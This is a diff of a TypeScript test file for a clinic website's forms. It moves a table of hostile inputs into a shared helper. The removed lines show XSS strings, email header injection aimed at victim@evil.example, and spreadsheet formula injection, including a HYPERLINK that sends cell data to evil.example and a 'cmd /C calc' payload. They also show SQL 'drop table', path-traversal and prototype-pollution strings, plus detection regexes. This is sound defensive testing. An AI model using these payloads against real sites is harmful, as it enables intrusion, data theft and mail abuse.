@@ -1,6 +1,7 @@
 import { describe, expect, test } from "vitest";
 import { clinic } from "../../commands/clinic.ts";
 import { newPlace, openStore } from "../../test/database.ts";
+import { harmIn, naughty, unusualHeaders } from "../../test/hostile.ts";
 import { startMailServer } from "../../test/mail-server.ts";
 import { startSite } from "../../test/site.ts";
 import { type Answers, type Form, hiddenFields } from "../submissions/form.ts";
@@ -10,41 +11,6 @@ const desk = "desk@clinic.example";
 const [place, mail] = [await newPlace(), await startMailServer()];
 const site = await startSite(place, { SMTP_URL: mail.url, MAIL_TO: desk, LOG_LEVEL: "warn" });
 const db = openStore(place);
-
-/** The kinds of the Big List of Naughty Strings. None may run, break out, or bring the site down. */
-const naughty: Record<string, string> = {
-  html: `"'><x-naughty onclick="naughty()"></textarea></script><script>naughty()</script><!--`,
-  attribute: `" autofocus onfocus="naughty()" x="`,
-  entity: "&lt;x-naughty&gt; &amp;amp; &#60;x-naughty&#62;",
-  "script in an address": "javascript:naughty()",
-  "control characters":
-    "a\u0001\u0002\u0007\u0008\u000B\u000C\u000E\u001B[2J\u001F\u007F\u0085\u009Bz",
-  NUL: "before\u0000after",
-  "line ends": "one\rtwo\nthree\r\nfour\u2028five\u2029six",
-  emoji: "👩🏽‍⚕️👨‍👩‍👧‍👦🇨🇦 🏳️‍🌈",
-  "right to left": "مرحبا \u202Ecod.exe\u202C שלום \u2067abc\u2069",
-  "zero width": "a\u200B\u200C\u200D\u2060\uFEFFb",
-  "only zero width": "\u200B\u200D",
-  zalgo: "T̸̨̛̗̫̈́̀o̴͚͝n̵̰̈y̶̢̽ ﷽ Ω≈ç√∫˜µ ",
-  "five thousand characters": "x".repeat(5_000),
-  "header injection": "Ada\r\nBcc: victim@evil.example\r\n\r\n<x-naughty>",
-  "address list": "ada@example.com, victim@evil.example",
-  "address with a header": "ada@example.com\nCc: victim@evil.example",
-  "address in a name": '"Ada" <victim@evil.example>',
-  formula: `=HYPERLINK("http://evil.example?"&A1,"open")`,
-  "formula by plus": "+1+cmd|' /C calc'!A0",
-  "formula by minus": "-1+1",
-  "formula by at": "@SUM(1+1)",
-  "formula after a tab": "\t=1+1",
-  "formula after a line end": "\r\n=1+1",
-  "formula after nothing visible": "\u0000\u200B =1+1",
-  "formula in full width": "＝1+1",
-  sql: "'; drop table submissions; --",
-  template: "{{phone}} ${7*7} #{7*7} <%= 7*7 %> %s%n%d",
-  path: "../../../../etc/passwd%00",
-  "object keys": "__proto__",
-  numbers: "NaN",
-};
 
 const person: Record<Form["fields"][number]["type"], string> = {
   text: "Ada Lee",
@@ -72,12 +38,7 @@ function post(path: string, body: string | URLSearchParams) {
   });
 }
 
-function expectHarmless(page: string, what: string) {
-  expect(page, what).not.toMatch(/<x-naughty/i);
-  expect(page, what).not.toMatch(/<script[^>]*>naughty/i);
-  expect(page, what).not.toMatch(/[^\\]" autofocus onfocus="naughty/i);
-  expect(page, what).not.toMatch(/(href|src|action)="?javascript:/i);
-}
+const expectHarmless = (page: string, what: string) => expect(harmIn(page), what).toBeUndefined();
 
 describe.each(forms.map((form) => [form.name, form] as const))("the form %s", (_name, form) => {
   const unseen = [...Object.values(hiddenFields), "__proto__", "constructor"];
@@ -170,14 +131,9 @@ test("every letter has the clinic as its only recipient, the usual headers, and 
   expect(mail.letters).toHaveLength(length);
   expect(mail.attempts(), "one recipient each").toBe(length);
 
-  const usual = ["from", "to", "reply-to", "subject", "message-id", "date", "mime-version"];
   const subjects = forms.map(({ subject }) => subject.replaceAll(/[()%]/g, "\\$&")).join("|");
   for (const { headerLines, html, raw, subject, to, replyTo, text } of mail.letters) {
-    const keys = headerLines.map(({ key }) => key);
-    expect(new Set(keys).size).toBe(keys.length);
-    expect(
-      keys.filter((key) => !usual.includes(key) && !/^(content-|auto-submitted|x-)/.test(key)),
-    ).toEqual([]);
+    expect(unusualHeaders(headerLines)).toEqual([]);
     expect(subject).toMatch(new RegExp(`^(\\[Suspected spam\\] )?(${subjects}) [A-Z]{3}-\\d{4}$`));
     expect([to].flat()[0]!.text).toBe(desk);
     expect([undefined, "ada@example.com"]).toContain(replyTo?.text);
